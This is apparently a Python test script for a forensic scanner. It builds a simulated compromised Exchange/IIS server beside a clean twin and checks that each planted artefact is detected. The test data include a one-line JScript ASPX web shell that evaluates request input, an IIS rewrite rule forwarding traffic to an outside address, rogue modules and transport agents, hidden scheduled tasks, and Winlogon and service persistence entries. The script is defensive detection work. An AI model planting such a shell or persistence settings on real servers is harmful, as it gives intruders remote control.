#!/usr/bin/env python3
"""What intruders leave on a server, each beside a benign twin: all of it is found, at the place
where it lies, and none of the twins, whether the evidence is a folder, an archive or an archive
in an archive.

usage: test_back_doors.py ASSAY
"""
import io
import json
import os
import pathlib
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "gen"))
from regfgen import Key, Value, hive  # noqa: E402  (lies in another folder)

assay = os.path.abspath(sys.argv[1])
problems = []
checks = 0

EX = "C/Program Files/Microsoft/Exchange Server/V15/"
CONFIG = "C/Windows/System32/inetsrv/config/applicationHost.config"
TASKS = "C/Windows/System32/Tasks/"
TYPE = "Version=15.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35"

HOST_CONFIG = """<?xml version="1.0" encoding="UTF-8"?>
<configuration>
  <system.applicationHost>
    <sites>
      <site name="Default Web Site" id="1">
        <application path="/">
          <virtualDirectory path="/" physicalPath="%SystemDrive%\\inetpub\\wwwroot" />{vdir}
        </application>
      </site>
      <siteDefaults>
        <logFile logFormat="W3C" directory="%SystemDrive%\\inetpub\\logs\\LogFiles" />
      </siteDefaults>
    </sites>
  </system.applicationHost>
  <system.webServer>
    <globalModules>
      <add name="StaticFileModule" image="%windir%\\System32\\inetsrv\\static.dll" />
      <add name="RewriteModule" image="%windir%\\System32\\inetsrv\\rewrite.dll" />{native}
    </globalModules>
    <httpLogging dontLog="{quiet}" />
  </system.webServer>
  <location path="Default Web Site/owa">
    <system.webServer>
      <modules>
        <add name="HttpRequestFilteringModule"
             type="Microsoft.Exchange.HttpRequestFiltering.HttpRequestFilteringModule, Microsoft.Exchange.HttpRequestFiltering, {type}" />{managed}
      </modules>
      <handlers>
        <add name="PageHandler" path="*.aspx" verb="*" type="System.Web.UI.PageHandlerFactory" />{handler}
      </handlers>
      <rewrite><rules>
        <rule name="EOMT OwaAuth"><match url=".*" /><action type="AbortRequest" /></rule>{rewrite}
      </rules></rewrite>
    </system.webServer>
  </location>
</configuration>
"""
CLEAN = dict.fromkeys(["vdir", "native", "managed", "handler", "rewrite"], "")
CLEAN.update(quiet="false", type=TYPE)
BAD = {
    "vdir": '<virtualDirectory path="/x" physicalPath="C:\\ProgramData\\COM1\\x" />',
    "native": '<add name="HttpFilterModule" image="%windir%\\System32\\inetsrv\\httpflt.dll" />',
    "managed": '<add name="SessionManager" type="Made.SessionManager, SessionManager" />',
    "handler": '<add name="img" path="*.jpg" verb="*" type="System.Web.UI.PageHandlerFactory" />',
    "rewrite": '<rule name="r"><match url="(.*)" />'
               '<action type="Rewrite" url="http://203.0.113.7/{R:1}" /></rule>',
    "quiet": "true",
    "type": TYPE,
}

AGENTS = """<configuration><mexRuntime><monitoring /><agentList>
<agent name="Malware Agent" baseType="Microsoft.Exchange.Data.Transport.Routing.RoutingAgent"
 classFactory="Microsoft.Exchange.Transport.Agent.Malware.MalwareAgentFactory"
 assemblyPath="C:\\Program Files\\Microsoft\\Exchange Server\\V15\\TransportRoles\\agents\\Malware\\Microsoft.Exchange.Transport.Agent.Malware.dll" enabled="true" />
{more}
</agentList></mexRuntime></configuration>
"""
AGENT = ('<agent name="Mail Helper" baseType="Microsoft.Exchange.Data.Transport.Routing.RoutingAgent"'
         ' classFactory="Helper.Factory" assemblyPath="C:\\ProgramData\\helper\\agent.dll"'
         ' enabled="true" />')

TASK = """<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
<RegistrationInfo><Date>2021-03-03T01:02:03</Date></RegistrationInfo>
<Principals><Principal id="A"><UserId>S-1-5-18</UserId></Principal></Principals>
<Settings><Hidden>{hidden}</Hidden><Enabled>true</Enabled></Settings>
<Actions Context="A"><Exec><Command>{command}</Command><Arguments>{arguments}</Arguments></Exec></Actions>
</Task>"""


def task(command, arguments="", hidden="false"):
    return TASK.format(command=command, arguments=arguments, hidden=hidden).encode("utf-16")


# A page that runs what it is sent: harmless text here, never served; and one that shows the time.
SHELL = b'<%@ Page Language="Jscript"%><%eval(Request.Item["made"],"unsafe");%>\r\n'
PAGE = b'<%@ Page Language="C#" %><html><body><%= DateTime.UtcNow.ToString("u") %></body></html>\r\n'
MINIDUMP = b"MDMP" + struct.pack("<I", 0xa793) + bytes(4000)
HIVE = b"regf" + bytes(8188)
ZIP = b"PK\5\6" + bytes(18)



def system_hive(name, image, library):
    return hive(Key(
        "ROOT",
        Key("Select", Value("Current", 1)),
        Key("ControlSet001",
            Key("Control", Key("ComputerName", Key("ComputerName", Value("ComputerName", name)))),
            Key("Services", Key("Updater", Value("ImagePath", image), Value("Start", 2),
                                Value("Type", 16),
                                Key("Parameters", Value("ServiceDll", library)))))))


def software_hive(winlogon, *hidden):
    tree = Key("Tree", Value("SD", b"\1\0\4\x80" + bytes(16)),
               Key("Microsoft", Value("SD", b"\1\0\4\x80" + bytes(16))),
               *(Key("Updater" + str(i), Value("Id", "{00000000-0000-0000-0000-00000000000%d}" % i),
                     *([] if h else [Value("SD", b"\1\0\4\x80" + bytes(16))]))
                 for i, h in enumerate(hidden)))
    return hive(Key(
        "ROOT", Key("Classes"), Key("Microsoft", Key("Windows NT", Key("CurrentVersion", Key(
            "Winlogon", Value("Userinit", winlogon)), Key("Schedule", Key("TaskCache", tree)))))))


HIVES = "C/Windows/System32/config/"
SYSTEM = HIVES + "SYSTEM"
SOFTWARE = HIVES + "SOFTWARE"

# What: (place, content, the rule that must find it there)
PLANTED = {
    "shell": ("C/inetpub/wwwroot/aspnet_client/t.aspx", SHELL, None),
    "shell in a logon folder": (EX + "FrontEnd/HttpProxy/owa/auth/t.aspx", SHELL, None),
    "polyglot": ("C/inetpub/wwwroot/aspnet_client/p.aspx",
                 b"!BDN" + bytes(2000) + SHELL + bytes(2000), None),
    "device name": ("C/inetpub/wwwroot/com1.aspx", PAGE, "Web page under the name of a device"),
    "dump": ("C/inetpub/wwwroot/aspnet_client/logo.gif", MINIDUMP, None),
    "hive": ("C/inetpub/wwwroot/aspnet_client/s.css", HIVE,
             "Password store or mail store in a web folder"),
    "hive in an open place": ("C/Windows/Temp/s.tmp", HIVE,
                              "Password store or memory dump in a place that everybody can write to"),
    "archive": ("C/ProgramData/it.zip", ZIP,
                "Archive with a very short name in a place that everybody can write to"),
    "agent": (EX + "TransportRoles/Shared/agents.config", AGENTS.format(more=AGENT).encode(),
              "Transport agent from a place where none belongs"),
    "task in an odd place": (TASKS + "Updater", task("C:\\Windows\\Temp\\a.exe"),
                             "Scheduled task that runs a program from an odd place"),
    "hidden task": (TASKS + "Winner", task("C:\\Program Files\\V\\v.exe", hidden="true"),
                    "Hidden scheduled task that is not of Windows"),
}
for what, title in {
        "service in an odd place": "Program in an open place is started by Windows",
        }.items():
    PLANTED["registry: " + what] = (
        SYSTEM, system_hive("BAD01", "C:\\ProgramData\\x.exe", "C:\\Windows\\Temp\\x.dll"), title)
for what, title in {"hidden task": "Scheduled task without a security descriptor",
                    "winlogon": "Logon runs something besides what Windows installs"}.items():
    PLANTED["registry: " + what] = (
        SOFTWARE, software_hive("C:\\Windows\\system32\\userinit.exe,C:\\ProgramData\\x.exe,", True),
        title)
for what, title in {
        "vdir": "Virtual directory that points to an odd place",
        "native": "Native module of IIS that neither Windows nor Exchange ships",
        "managed": "Managed module that neither ASP.NET nor Exchange ships",
        "handler": "Files of a harmless kind are run as pages",
        "rewrite": "Requests are passed on to another server",
        "quiet": "The web server does not log requests"}.items():
    PLANTED["configuration: " + what] = (CONFIG, HOST_CONFIG.format(**BAD).encode(), title)

TWINS = {
    "page": ("C/inetpub/wwwroot/app/time.aspx", PAGE),
    "dump": ("C/Windows/Temp/w3wp.exe.4711.dmp", MINIDUMP),
    "archive": ("C/ProgramData/Vendor/it.zip", ZIP),
    "agent": (EX + "TransportRoles/Shared/agents.config", AGENTS.format(more="").encode()),
    "task": (TASKS + "Microsoft/Windows/Vendor/Cleanup", task("%windir%\\system32\\cleanmgr.exe")),
    "task of a program": (TASKS + "VendorUpdate", task("C:\\Program Files\\V\\v.exe", "/ua")),
    "configuration": (CONFIG, HOST_CONFIG.format(**CLEAN).encode()),
    "services": (SYSTEM, system_hive("GOOD01", "%SystemRoot%\\System32\\svchost.exe -k netsvcs",
                                     "%SystemRoot%\\System32\\wuaueng.dll")),
    "software": (SOFTWARE, software_hive("C:\\Windows\\system32\\userinit.exe,", False)),
}


def check(what, ok, why=""):
    global checks
    checks += 1
    if not ok:
        problems.append(f"{what}: {why}")


def files():
    """Of two servers, one of which nobody entered."""
    made = {"BAD01/" + place: content for place, content, _ in PLANTED.values()}
    made.update({"GOOD01/" + place: content for place, content in TWINS.values()})
    return made


def zip_of(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, content in members.items():
            z.writestr(name, content)
    return out.getvalue()


def tar_of(members, mode):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as t:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(content), 1614754800
            t.addfile(info, io.BytesIO(content))
    return out.getvalue()


def scan(path, *options):
    done = subprocess.run([assay, "scan", str(path), "--format", "json", *options],
                          capture_output=True, check=False, timeout=120)
    check(path.name, done.returncode in (1, 3), f"status {done.returncode}: {done.stderr[-500:]}")
    return json.loads(done.stdout)


def judge(name, told):
    """Each planted thing is found where it lies; nothing is found of the other server."""
    found = {}
    for f in told["findings"]:
        path = f["where"]["path"]
        if "/GOOD01/" in path:
            check(name, False, f"{f['rule']['title']}: {path}")
            continue
        found.setdefault(path.split("/BAD01/", 1)[-1], set()).add(f["rule"]["title"])
    for what, (place, _, title) in PLANTED.items():
        titles = found.get(place, set())
        check(name, title in titles if title else titles, f"{what}: {place}: {titles or 'nothing'}")
    gaps = [g for g in told["gaps"] if "/GOOD01/" in g["path"]]
    check(name, not gaps, gaps)


def findings_of(told):
    return sorted((f["rule"]["title"], f["where"]["path"].partition("01/")[2])
                  for f in told["findings"])


def main():
    with tempfile.TemporaryDirectory() as name:
        work = pathlib.Path(name)
        made = files()
        for place, content in made.items():
            path = work / "folder" / place
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(content)
        archives = {"all.zip": zip_of(made), "all.tar.gz": tar_of(made, "w:gz"),
                    "all.tar.xz": tar_of(made, "w:xz"),
                    "nested.zip": zip_of({"inner/all.tar": tar_of(made, "w")})}
        folder = scan(work / "folder")
        judge("folder", folder)
        for archive, content in archives.items():
            (work / archive).write_bytes(content)
            told = scan(work / archive)
            judge(archive, told)
            other = set(findings_of(told)) ^ set(findings_of(folder))
            check(archive, findings_of(told) == findings_of(folder), f"not as of the folder: {other}")
            local = ["time_local" in f["where"]["marks"] for f in told["findings"]
                     if f["rule"]["title"] == "Web page under the name of a device"]
            check(archive, local == [archive == "all.zip"], f"local time: {local}")
        two = work / "two"
        page = "C/inetpub/wwwroot/aspnet_client/system_web.aspx"
        for server in ("ONE", "TWO"):
            (two / server / page).parent.mkdir(parents=True)
            (two / server / page).write_bytes(b'<%eval(Request.Item["k"],"unsafe")%>')
        told = scan(two)
        at = {f["where"]["path"].partition("/two/")[2] for f in told["findings"]}
        check("two", at == {f"ONE/{page}", f"TWO/{page}"}, f"one page on two servers: {at}")
        ids = [f["id"] for f in told["findings"]]
        check("two", len(set(ids)) == len(ids), "one id for pages of two servers")
        entries = [c["entry"] for h in told["hosts"] for c in h["campaigns"]]
        check("two", [(e["state"], e["basis"], e["first"]) for e in entries] ==
              [("exploited", "inferred", None)] * 2,
              f"a file's own time dates an entry: {entries}")
        of = {f["time_of"] for h in told["hosts"] for f in h["facts"]}
        check("two", of == {"last_change"}, of)
    for p in problems:
        print("FAIL", p)
    print(f"{checks} checks, {len(problems)} failed")
    return 1 if problems else 0


if __name__ == "__main__":
    sys.exit(main())
